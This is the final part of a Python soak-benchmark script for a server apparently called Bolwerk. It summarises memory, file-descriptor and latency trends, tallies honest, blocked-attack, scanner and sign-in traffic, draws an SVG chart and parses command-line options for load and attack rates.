              f"{rows[min(len(rows), warm + n) - 1]['minute']}, last window {rows[-n]['minute']}-{rows[-1]['minute']}; "
              "RSS and fds flat when the last mean is within 20 % of the first, p99 when the last median is "
              "within 50 % of the first")
        for v in vs:
            print(f"# {v['series']}: first {v['stat']} {v['first']:.2f} {v['unit']}, last {v['last']:.2f} {v['unit']} "
                  f"({v['change']:+.1%}), slope after warm-up {v['slope_per_hour']:+.2f} {v['unit']}/h: "
                  f"{v['word']}")
        tot = lambda k: sum(r[k] for r in rows if isinstance(r[k], (int, float)))
        print(f"# totals: honest {tot('honest_requests')} requests ({tot('honest_non2xx')} non-2xx, "
              f"{tot('honest_socket_errors')} socket errors); attacks {tot('attack_requests')} "
              f"({tot('attack_403')} x 403); scanner requests {tot('scan_requests')} ({tot('scan_404')} x 404, "
              f"{tot('scan_403')} x 403); sign-ins ok {tot('signins_ok')}, failed attempts {tot('signins_failed')}")
        title = f"Bolwerk soak, {len(rows)} min: page views + attacks, 404 scanners, admin sign-ins"
        subtitle = (f"honest {statistics.fmean(r['honest_rps'] for r in rows):,.0f} req/s on average, target "
                    f"{args.load:.0%} of the measured maximum {peak:,.0f}; a shared, noisy 2-core machine")
        svg(rows, args.svg, title, subtitle, warm, n, vs)
        print(f"# wrote {args.csv} and {args.svg}")
        return 1 if crashed or panics or any(v["word"] == "GREW" for v in vs) else 0
    finally:
        if server.poll() is None:
            server.send_signal(signal.SIGTERM)
            try:
                server.wait(15)
            except subprocess.TimeoutExpired:
                server.kill()
                server.wait(5)
        if args.keep:
            print(f"# kept {run}")
        else:
            shutil.rmtree(run, ignore_errors=True)


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--bolwerk", required=True)
    ap.add_argument("--minutes", type=int, default=30)
    ap.add_argument("--load", type=float, default=0.8, help="part of the measured maximum to run at")
    ap.add_argument("--rounds", type=int, default=3, help="8-second wrk rounds for the maximum")
    ap.add_argument("--honest-conns", type=int, default=200)
    ap.add_argument("--honest-allowlisted", action="store_true",
                    help="allowlist 127.0.0.1 (not inspected) instead of raising its rate budget")
    ap.add_argument("--attack-rps", type=float, default=4)
    ap.add_argument("--scan-rps", type=float, default=4)
    ap.add_argument("--workers-attack", type=int, default=2)
    ap.add_argument("--workers-scan", type=int, default=2)
    ap.add_argument("--login-ok-every", type=float, default=10)
    ap.add_argument("--login-fail-every", type=float, default=1.5)
    ap.add_argument("--csv", default="bench/results/soak.csv")
    ap.add_argument("--svg", default="bench/results/soak.svg")
    ap.add_argument("--keep", action="store_true", help="keep the data directory and the server's log")
    args = ap.parse_args()
    os.makedirs(os.path.dirname(os.path.abspath(args.csv)), exist_ok=True)
    os.makedirs(os.path.dirname(os.path.abspath(args.svg)), exist_ok=True)
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 16384)), hard))
    sys.exit(asyncio.run(main(args)))
